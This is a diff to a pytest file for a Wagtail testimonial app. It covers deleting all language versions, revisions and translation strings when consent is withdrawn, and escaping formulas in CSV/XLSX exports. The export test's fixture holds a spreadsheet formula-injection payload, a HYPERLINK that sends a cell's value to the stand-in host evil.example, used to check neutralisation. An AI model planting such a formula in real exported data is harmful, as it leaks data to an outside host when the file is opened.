@@ -664,13 +664,39 @@ def published_from_feedback(client, requests_sent):
     return feedback_request, [french, german, italian]
 
 
-def test_withdrawing_unpublishes_every_language_at_once(
+def localize(testimonial, language_code: str, quote: str):
+    """Translate ``testimonial`` with wagtail-localize, as a translator does: a
+    source, the translated string, the translation published."""
+    from wagtail_localize.models import StringTranslation, TranslationSource
+
+    locale = Locale.objects.get(language_code=language_code)
+    source, _created = TranslationSource.get_or_create_from_instance(testimonial)
+    for segment in source.stringsegment_set.select_related("string", "context"):
+        if segment.context.path == "quote":
+            StringTranslation.objects.create(
+                translation_of=segment.string,
+                locale=locale,
+                context=segment.context,
+                data=quote,
+            )
+    translated, _created = source.create_or_update_translation(locale)
+    return Quote.objects.get(pk=translated.pk)
+
+
+def test_withdrawing_deletes_every_language_at_once(
     client, published_from_feedback, workshop
 ):
+    from wagtail.models import Revision
+    from wagtail_localize.models import String, StringTranslation, TranslationSource
+
     feedback_request, versions = published_from_feedback
-    workshop.body = [
-        ("testimonials", {"testimonials": [versions[1]], "random_count": None})
-    ]
+    # One more language, translated with wagtail-localize: its strings hold quotes.
+    german_key = versions[0].translation_key
+    Quote.objects.filter(pk=versions[1].pk).delete()
+    german = localize(versions[0], "de", "Es braucht Mut.")
+    versions[1] = german
+    assert String.objects.filter(data="Il faut du courage.").exists()
+    workshop.body = [("testimonials", {"testimonials": [german], "random_count": None})]
     workshop.save_revision().publish()
     assert "Es braucht Mut." in client.get(workshop.url).content.decode()
 
@@ -682,53 +708,61 @@ def test_withdrawing_unpublishes_every_language_at_once(
         "withdraw_consent",
         feedback_request.token,
     )
-    assert client.get(confirm).status_code == 200
-    assert not FeedbackAnswer.objects.get().consent_withdrawn_at  # GET changes nothing
+    response = client.get(confirm)
+    assert response.status_code == 200
+    assert "deleted" in response.content.decode()  # says what will happen
+    assert Quote.objects.count() == 3  # GET changes nothing
     response = client.post(confirm)
     assert response.status_code == 302
-    for version in versions:
-        version.refresh_from_db()
-        assert not version.live
-        assert version.consent_withdrawn_at is not None
-    assert FeedbackAnswer.objects.get().consent_withdrawn_at is not None
-    assert "Es braucht Mut." not in client.get(workshop.url).content.decode()
-    assert (
-        ModelLogEntry.objects.filter(
-            action=feedback_services.CONSENT_WITHDRAWN_ACTION
-        ).count()
-        == 3
+    # Every language version, its revisions and its translation data are gone.
+    assert not Quote.objects.filter(translation_key=german_key).exists()
+    assert not Revision.objects.filter(
+        object_id__in=[str(v.pk) for v in versions],
+        base_content_type__model="testimonial",
+    ).exists()
+    assert not TranslationSource.objects.filter(object_id=german_key).exists()
+    for text in ("Il faut du courage.", "Es braucht Mut.", "Ci vuole coraggio."):
+        assert not String.objects.filter(data=text).exists(), text
+        assert not StringTranslation.objects.filter(data=text).exists(), text
+    # Only the fact and the date of the withdrawal are kept.
+    answer = FeedbackAnswer.objects.get()
+    assert answer.consent_withdrawn_at is not None
+    assert answer.takeaway == ""
+    # The log says it happened, and nothing of the quote.
+    entries = ModelLogEntry.objects.filter(
+        action=feedback_services.CONSENT_WITHDRAWN_ACTION
     )
+    assert entries.count() == 3
+    for entry in ModelLogEntry.objects.all():
+        assert "courage" not in entry.label and "Mut" not in entry.label
+    # The page says so, also later.
+    done = client.get(response.url)
+    assert done.status_code == 200
+    assert "Your quote has been deleted" in done.content.decode()
+    assert "Es braucht Mut." not in client.get(workshop.url).content.decode()
     # Twice is harmless.
     assert feedback_services.withdraw_consent(feedback_request) == 0
+    assert client.post(confirm).status_code == 302
 
 
-def test_a_withdrawn_testimonial_can_never_go_live_again(published_from_feedback):
+def test_after_a_withdrawal_nothing_is_left_to_publish(published_from_feedback):
+    from wagtail.models import Revision
+
     feedback_request, versions = published_from_feedback
     revision = versions[0].latest_revision
-    feedback_services.withdraw_consent(feedback_request)
-    french = Quote.objects.get(pk=versions[0].pk)
-    # Editors cannot save or publish it...
+    assert feedback_services.withdraw_consent(feedback_request) == 3
+    # Not even an old revision, nor one scheduled for publication.
+    assert not Revision.objects.filter(pk=revision.pk).exists()
+    assert not Quote.objects.exists()
+
+
+def test_a_withdrawn_testimonial_can_never_go_live(locales):
+    # Testimonials marked withdrawn before withdrawals deleted them stay offline.
+    withdrawn = QuoteFactory(live=False, consent_withdrawn_at=timezone.now())
     with pytest.raises(ValidationError):
-        french.full_clean()
-    # ... publishing an old revision keeps the withdrawal and the database refuses.
+        withdrawn.full_clean()
     with pytest.raises(IntegrityError), transaction.atomic():
-        revision.publish()
-    # ... and neither can a direct write.
-    with pytest.raises(IntegrityError), transaction.atomic():
-        Quote.objects.filter(pk=french.pk).update(live=True)
-
-
-def test_withdrawing_cancels_a_scheduled_publication(published_from_feedback):
-    feedback_request, versions = published_from_feedback
-    italian = versions[2]
-    Quote.objects.filter(pk=italian.pk).update(live=False)
-    italian.refresh_from_db()
-    revision = italian.save_revision(
-        approved_go_live_at=timezone.now() + timedelta(days=1)
-    )
-    feedback_services.withdraw_consent(feedback_request)
-    revision.refresh_from_db()
-    assert revision.approved_go_live_at is None
+        Quote.objects.filter(pk=withdrawn.pk).update(live=True)
 
 
 def test_without_consent_there_is_nothing_to_withdraw(client, requests_sent):
@@ -887,19 +921,39 @@ def test_an_editor_publishes_a_draft_from_feedback(
     assert draft.feedback_answer is not None
 
 
-def test_the_admin_refuses_to_publish_a_withdrawn_testimonial(
+def test_a_withdrawn_testimonial_is_gone_from_the_admin(
     admin_client, published_from_feedback
 ):
     feedback_request, versions = published_from_feedback
     feedback_services.withdraw_consent(feedback_request)
-    french = Quote.objects.get(pk=versions[0].pk)
-    url = snippet_urls(french)["edit"]
-    response = admin_client.post(url, edit_form_data(french, **{"action-publish": "1"}))
-    assert response.status_code == 200  # the form, with the error
-    french.refresh_from_db()
-    assert not french.live
+    url = snippet_urls(versions[0])["edit"]
+    assert admin_client.get(url, follow=True).status_code == 404
     # No copy that would carry the quote without the withdrawal.
     from django.urls import NoReverseMatch
 
     with pytest.raises(NoReverseMatch):
-        reverse("wagtailsnippets_wagtail_atelier_testimonial:copy", args=[french.pk])
+        reverse("wagtailsnippets_wagtail_atelier_testimonial:copy", args=[1])
+
+
+def test_the_csv_export_neutralises_formulas(admin_client, locales):
+    import csv
+    import io
+
+    import openpyxl
+
+    formula = '=HYPERLINK("https://evil.example/?q="&A1,"Mehr lesen")'
+    QuoteFactory(quote=formula, naming="full_name", first_name="+SUM(1)", last_name="X")
+    index = reverse("wagtailsnippets_wagtail_atelier_testimonial:list")
+    response = admin_client.get(index, {"export": "csv"})
+    assert response.status_code == 200
+    content = b"".join(response.streaming_content).decode()
+    rows = list(csv.reader(io.StringIO(content)))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert "'" + formula in cells
+    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
+
+    response = admin_client.get(index, {"export": "xlsx"})
+    workbook = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
+    values = [cell.value for row in workbook.active.iter_rows() for cell in row]
+    assert "'" + formula in values
+    assert not any(isinstance(v, str) and v.startswith("=") for v in values)
